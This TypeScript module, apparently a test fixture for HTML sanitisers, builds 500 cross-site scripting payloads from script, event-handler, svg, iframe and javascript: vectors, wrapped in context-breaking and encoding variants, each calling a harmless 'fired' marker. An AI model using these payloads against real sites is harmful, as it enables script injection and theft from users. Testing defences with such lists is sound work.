/** What a script calls that got through. */
export const mark = 'fired';

/** Each runs by itself, or when something has the focus, once it stands in a page as markup. */
const vectors = [
  `<script>${mark}()</script>`,
  `<ScRiPt>${mark}()</sCrIpT>`,
  `<script src="data:text/javascript,${mark}()"></script>`,
  `<img src=x onerror=${mark}()>`,
  `<IMG SRC=x OnErRoR="${mark}()">`,
  `<img src=x onerror=&#102;ired()>`,
  `<img/src="x"/onerror=${mark}()//`,
  `<svg onload=${mark}()>`,
  `<svg/onload=${mark}()>`,
  `<svg><script>${mark}()</script></svg>`,
  `<svg><animate onbegin=${mark}() attributeName=x dur=1s>`,
  `<svg><set onbegin=${mark}() attributeName=x>`,
  `<details open ontoggle=${mark}()>`,
  `<input autofocus onfocus=${mark}()>`,
  `<select autofocus onfocus=${mark}()></select>`,
  `<b tabindex=1 autofocus onfocus=${mark}()>b</b>`,
  `<video><source onerror=${mark}()></video>`,
  `<audio src=x onerror=${mark}()></audio>`,
  `<iframe onload=${mark}()></iframe>`,
  `<iframe src="javascript:parent.${mark}()"></iframe>`,
  `<iframe srcdoc="<script>parent.${mark}()</script>"></iframe>`,
  `<object data=x onerror=${mark}()></object>`,
  `<style onload=${mark}()>b{}</style>`,
  `<link rel=stylesheet href=x onerror=${mark}()>`,
  `<body onpageshow=${mark}()>`,
];

/** What ends the place that a text stands in, so that what follows is markup again; and ways to write it. */
const ways: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `"'/>${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</option></select>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `</style>${vector}`,
  (vector) => `-->${vector}`,
  (vector) => `]]>${vector}`,
  (vector) => `</noscript></template>${vector}`,
  (vector) => `\\">${vector}`,
  (vector) => `\u2063${vector}\u202e`,
  (vector) => `{{${vector}}} \${${vector}}`,
  (vector) => `**${vector}** [x](javascript:${mark}())`,
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (vector) => encodeURIComponent(vector),
  (vector) => vector.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
];

/** Five hundred, one way after the other. */
export const payloads: readonly string[] = ways.flatMap((way) => vectors.map(way));
